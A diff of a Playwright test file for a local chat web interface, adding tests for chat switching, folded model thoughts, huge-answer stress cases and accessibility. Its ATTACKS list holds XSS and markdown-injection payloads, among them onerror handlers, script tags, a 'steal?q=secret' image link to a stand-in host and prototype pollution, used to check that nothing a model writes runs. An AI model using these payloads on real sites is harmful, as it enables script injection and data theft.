@@ -113,6 +113,20 @@ def test_a_canvas_resolves_in_colours(small: Server, opened: Open) -> None:
     expect(page.locator("#chat-list li")).to_have_count(1)
 
 
+def test_another_chat_while_one_is_written(opened: Open) -> None:
+    with serving(unsettled) as server:
+        page = opened(server)
+        page.fill("#message", "hello")
+        page.keyboard.press("Enter")
+        expect(page.locator(".draft")).to_contain_text("So far")
+        page.click("#chat-new")
+        expect(page.locator("#send")).to_be_visible()
+        expect(page.locator("#welcome")).to_be_visible()
+        page.click("#chat-list .open >> text=hello")
+        expect(page.locator(".model .said")).to_contain_text("So far")
+        expect(page.locator(".note")).to_contain_text("Stopped.")
+
+
 def test_what_may_be_done_with_a_chat(fine: Server, opened: Open) -> None:
     page = opened(fine)
     asked: list[Any] = []
@@ -150,7 +164,7 @@ def test_what_may_be_done_with_a_chat(fine: Server, opened: Open) -> None:
 def test_thoughts_are_folded(opened: Open) -> None:
     with serving(writing("<|channel>thought\nlook<channel|>Wait.")) as server:
         page = opened(server)
-        page.click("#settings-open")
+        page.click("#settings-open")  # perhaps before it is known whether the model thinks
         page.check("#set-thinking")
         page.click("text=Save")
         say(page, "hello")
@@ -212,9 +226,9 @@ ATTACKS = [
     "[here](//elsewhere.example/x)",
     "<javascript:window.pwned=1>",
     "![x](https://elsewhere.example/steal?q=secret)",
-    "![x](x\" onerror=\"window.pwned=1)",
-    "[a](https://a.example \"\" onmouseover=\"pwned=1\")",
-    "```\"><img src=x onerror=pwned=1>\nx\n```",
+    '![x](x" onerror="window.pwned=1)',
+    '[a](https://a.example "" onmouseover="pwned=1")',
+    '```"><img src=x onerror=pwned=1>\nx\n```',
     "`</code><script>pwned=1</script>`",
     "<form action='https://elsewhere.example'><input name=q><button>x</button></form>",
     "<style>@import 'https://elsewhere.example/x.css'; body { display: none }</style>",
@@ -231,12 +245,14 @@ def nothing_ran(page: Any) -> None:
     """No tag, attribute or address of the attacks is in the page, and none of them has run."""
     time.sleep(0.2)
     assert page.evaluate("window.pwned === undefined")
-    forbidden = "script, img, svg, math, iframe, form, style, link, meta, base, input, [id], [style]"
+    forbidden = (
+        "script, img, svg, math, iframe, form, style, link, meta, base, input, [id], [style]"
+    )
     for place in (".said", ".as-it-is", ".draft", ".facts", ".note", "#chat-list", "#alert"):
         for each in page.locator(place).all():
             assert each.locator(forbidden).count() == 0
     for each in page.locator("a[href]:not(.skip)").all():
-        assert each.get_attribute("href").startswith("https://a.example")
+        assert each.get_attribute("href").startswith("https://")  # to be followed, not fetched
     handlers = "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes])"
     assert page.evaluate(f"{handlers}.filter(a => a.name.startsWith('on')).length") == 0
 
@@ -254,17 +270,15 @@ def test_nothing_that_a_model_writes_runs_or_is_fetched(fine: Server, opened: Op
     page.reload()
     expect(page.locator(".model .said")).to_be_visible()
     nothing_ran(page)
-    for each in ATTACKS:  # by itself: what stands before it may hide it
-        answer(page, {"content": each}, draft((each, False, 0.1)), end=False)
-        say(page, each)
-        nothing_ran(page)
-        page.click("#chat-new")
 
 
 def test_history_that_others_wrote(fine: Server, opened: Open) -> None:
     page = opened(fine)
     bad = json.dumps(ATTACKS[1])
-    message = {"role": "assistant", "content": "\n\n".join(ATTACKS), "thought": "x", "note": "<b>"}
+    said: list[Any] = []
+    for each in ATTACKS:  # by itself: what stands before it may hide it
+        fields = dict.fromkeys(("content", "thought", "note", "facts"), each)
+        said += [{"role": "user", "content": each}, {"role": "assistant", **fields}]
     entries = {
         "a": "{",
         "b": "null",
@@ -273,50 +287,49 @@ def test_history_that_others_wrote(fine: Server, opened: Open) -> None:
         "e": json.dumps({"messages": [None, 3]}),
         "f": json.dumps({"messages": [{"role": "user", "content": {"a": 1}}], "steps": "x"}),
         "<img src=x onerror=pwned=1>": json.dumps(
-            {"messages": [{"role": "user", "content": ATTACKS[1]}, message], "changed": bad}
+            {"messages": said, "changed": bad, "system": ATTACKS[1]}
         ),
         "__proto__": json.dumps({"messages": [], "__proto__": {"pwned": 1}}),
     }
     page.evaluate(
-        "all => { for (const [k, v] of Object.entries(all))"
+        "all => { for (const [k, v] of Object.entries(JSON.parse(all)))"
         " localStorage.setItem('diffgemma.chat.' + k, v); }",
-        entries,
+        json.dumps(entries),
     )
     page.reload()
     expect(page.locator("#chat-list li")).to_have_count(3)
-    page.locator("#chat-list .open", has_text="onerror").click()
+    page.locator("#chat-list .open", has_text="window.pwned").click()
+    expect(page.locator(".model")).to_have_count(len(ATTACKS))
     nothing_ran(page)
     page.get_by_text("Delete all chats").click()
     expect(page.locator("#chat-list li")).to_have_count(0)
-    page.context.pages[0].evaluate("1")
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "word " * 400_000,
-        "x" * 2_000_000,
-        "> " * 20_000 + "x",
-        "[" * 40_000,
-        "*a " * 15_000,
-        "`" * 30_001 + "x",
-        "|" * 20_000 + "\n" + "-|" * 20_000,
-        "- " * 10_000,
-        "&" * 90_000,
-        "<" * 90_000,
-        "![[" * 15_000,
-        "\n" * 90_000,
-    ],
-    ids=lambda text: repr(text[:4]),
-)
-def test_huge_answers_leave_the_page_alive(fine: Server, opened: Open, text: str) -> None:
+HUGE = [
+    "word " * 400_000,
+    "x" * 2_000_000,
+    "> " * 20_000 + "x",
+    "[" * 40_000,
+    "*a " * 15_000,
+    "`" * 30_001 + "x",
+    "|" * 20_000 + "\n" + "-|" * 20_000,
+    "- " * 10_000,
+    "&" * 90_000,
+    "<" * 90_000,
+    "![[" * 15_000,
+    "\n" * 90_000,
+]
+
+
+def test_huge_answers_leave_the_page_alive(fine: Server, opened: Open) -> None:
     page = opened(fine)
-    answer(page, {"content": text})
-    started = time.monotonic()
-    say(page, "x")
-    page.click("#chat-new")
-    expect(page.locator("#welcome")).to_be_visible()
-    assert time.monotonic() - started < 20
+    for text in HUGE:
+        answer(page, {"content": text})
+        started = time.monotonic()
+        say(page, "x")
+        page.click("#chat-new")
+        expect(page.locator("#welcome")).to_be_visible()
+        assert time.monotonic() - started < 20, text[:9]
 
 
 class Slow(Scripted):
@@ -500,7 +513,9 @@ def test_fill_and_edit(small: Server, opened: Open) -> None:
     expect(page.locator("#edit-result del")).to_have_text("hosue", timeout=60_000)
     expect(page.locator("#edit-result ins")).to_have_text("house")
     page.click("text=Use this text")
-    expect(page.locator("#edit-text")).to_have_value("a small house near the river\nThe river is long.")
+    expect(page.locator("#edit-text")).to_have_value(
+        "a small house near the river\nThe river is long."
+    )
 
 
 def test_the_keyboard_alone(fine: Server, opened: Open) -> None:
@@ -527,8 +542,7 @@ def test_the_keyboard_alone(fine: Server, opened: Open) -> None:
     expect(page.locator(".model .facts")).to_be_visible()
 
 
-@pytest.mark.parametrize("scheme", ["light", "dark"])
-@pytest.mark.parametrize("size", [WIDE, PHONE], ids=["wide", "phone"])
+@pytest.mark.parametrize(("scheme", "size"), [("light", WIDE), ("dark", PHONE)])
 def test_axe_finds_nothing(fine: Server, opened: Open, scheme: str, size: Any) -> None:
     axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
     page = opened(fine, viewport=size, color_scheme=scheme, reduced_motion="reduce")
